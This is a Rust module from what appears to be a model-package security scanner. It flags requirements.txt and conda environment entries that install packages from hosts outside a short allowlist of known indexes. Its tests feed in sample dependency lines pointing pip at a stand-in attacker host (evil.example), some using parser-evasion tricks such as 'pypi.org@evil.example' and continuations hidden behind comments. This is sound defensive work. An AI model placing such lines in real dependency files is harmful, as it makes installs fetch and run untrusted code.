//! `requirements.txt`: packages that are installed for a model from elsewhere than the index of
//! everybody's. Installing one runs its code.

use super::LINE_ENDS;
use crate::ledger::Ledger;
use crate::rules;

/// Hosts of indexes that are as good as PyPI: its own, PyTorch's, NVIDIA's.
const HOSTS: &[&str] = &[
    "data.pyg.org",
    "conda.anaconda.org",
    "download.pytorch.org",
    "pypi.ngc.nvidia.com",
    "pypi.nvidia.com",
    "pypi.org",
    "repo.anaconda.com",
];

/// Judges each line. One that ends in `\` goes on in the next, but no comment does.
pub(super) fn judge(text: &str, ledger: &mut Ledger<'_>) {
    let mut at = 0u64;
    let mut begun = String::new();
    let mut before = "";
    for raw in text.split_inclusive(LINE_ENDS) {
        let from = at;
        at += raw.len() as u64;
        // Of `\r\n` the second is no line of its own, which would end one that goes on.
        let second = raw == "\n" && before.ends_with('\r');
        before = raw;
        if second {
            continue;
        }
        let line = raw.trim_end();
        if line.trim_start().starts_with('#') {
            continue;
        }
        if let Some(part) = line.strip_suffix('\\') {
            begun.push_str(part);
        } else {
            begun.push_str(line);
            whole(&std::mem::take(&mut begun), from, ledger);
        }
    }
    whole(&begun, at, ledger);
}

/// Judges the lists of packages in an environment of conda's or MLflow's: the same lines, each behind a dash.
pub(super) fn environment(text: &str, ledger: &mut Ledger<'_>) {
    let mut at = 0u64;
    for raw in text.split_inclusive(LINE_ENDS) {
        if let Some(line) = raw.trim_start().strip_prefix("- ") {
            whole(line.trim().trim_matches(['"', '\'']), at, ledger);
        }
        at += raw.len() as u64;
    }
}

fn whole(line: &str, at: u64, ledger: &mut Ledger<'_>) {
    let line = line.split(" #").next().unwrap_or_default().trim();
    if elsewhere(line) {
        let shown = || line.chars().take(200).collect();
        ledger.note(rules::REMOTE_CODE, "requirements", at, shown);
    }
}

/// Whether a line has an address, of an index or of a package, on a host that is not known.
fn elsewhere(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    lower.split("://").skip(1).any(|rest| {
        let host = rest.split(['/', '?', '#', ' ']).next().unwrap_or_default();
        !HOSTS.contains(&host)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::noted_rules;

    #[test]
    fn packages_of_an_environment() {
        let told =
            |text: &str| !noted_rules("conda.yaml", |ledger| environment(text, ledger)).is_empty();
        let pip = |line: &str| format!("dependencies:\n- python=3.11\n- pip:\n  - {line}\n");
        assert!(told(&pip("--index-url http://evil.example/simple")));
        assert!(told(&pip("'evil @ git+https://evil.example/x.git'")));
        assert!(!told(&pip("torch==2.0 # https://example.org")));
        assert!(!told(
            "channels:\n- https://conda.anaconda.org/conda-forge\n- defaults\n"
        ));
    }

    fn told(text: &str) -> bool {
        !noted_rules("requirements.txt", |ledger| judge(text, ledger)).is_empty()
    }

    #[test]
    fn packages_from_elsewhere() {
        for text in [
            "torch\n--index-url http://evil.example/simple\n",
            "--extra-index-url=https://evil.example/simple",
            "--extra-index-url \\\n https://evil.example/simple",
            "-i https://pypi.org@evil.example/simple",
            "-e git+https://example.org/x.git#egg=x",
            "evil @ https://evil.example/x.whl",
            "git+ssh://git@example.org/x.git",
            "https://evil.example/x.whl",
            "# see below \\\nhttps://evil.example/x.whl\n",
            "torch \\\n# or\n @ https://evil.example/x.whl\n",
            "-f https://evil.example/",
            "# x\rhttps://evil.example/x.whl",
            "# x\u{85}https://evil.example/x.whl",
            "torch @ \\\r\nhttps://evil.example/x.whl # x\r\n",
        ] {
            assert!(told(text), "{text}");
        }
        for text in [
            "torch>=2.0\nnumpy==1.26 # see https://example.org\n# https://example.org\n-e .\n-r more.txt\n",
            "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n",
            "--index-url https://pypi.org/simple",
            "",
        ] {
            assert!(!told(text), "{text}");
        }
    }
}
